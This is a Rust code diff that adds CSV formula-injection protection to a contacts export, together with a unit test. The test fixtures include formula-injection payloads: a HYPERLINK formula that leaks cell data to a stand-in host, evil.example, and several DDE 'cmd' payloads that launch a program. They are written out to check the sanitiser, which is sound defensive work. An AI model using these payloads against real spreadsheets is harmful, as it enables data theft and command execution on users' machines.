@@ -39,6 +39,22 @@ const COLUMNS: [&str; 22] = [
     "created_at",
 ];
 
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or CR first: OWASP's
+/// rule) gets a leading `'`, so lead-provided text stays text. Plain numbers (`+5511987654321`,
+/// `-3`) cannot carry a formula and stay as they are.
+pub fn neutralise_formula(cell: String) -> String {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let plain_number = {
+        let digits = cell.strip_prefix(['+', '-']).unwrap_or(&cell);
+        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
+    };
+    if risky && !plain_number {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
 fn record(c: &ContactRow, users: &HashMap<Uuid, String>, sites: &HashMap<Uuid, String>) -> Vec<String> {
     let name_of =
         |map: &HashMap<Uuid, String>, id: Option<Uuid>| id.and_then(|i| map.get(&i).cloned()).unwrap_or_default();
@@ -67,6 +83,9 @@ fn record(c: &ContactRow, users: &HashMap<Uuid, String>, sites: &HashMap<Uuid, S
         c.first_contact_at.to_rfc3339(),
         c.created_at.to_rfc3339(),
     ]
+    .into_iter()
+    .map(neutralise_formula)
+    .collect()
 }
 
 /// Download contacts as CSV.
@@ -141,4 +160,30 @@ pub async fn export_contacts(
         .content_type("text/csv; charset=utf-8")
         .insert_header((header::CONTENT_DISPOSITION, "attachment; filename=\"contacts.csv\""))
         .streaming(body))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutralise_formula;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_plain_values_kept() {
+        for (cell, safe) in [
+            (
+                r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
+                r#"'=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("+5511987654321", "+5511987654321"),
+            ("-3", "-3"),
+            ("Maria = cliente", "Maria = cliente"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise_formula(cell.to_string()), safe, "{cell:?}");
+        }
+    }
 }
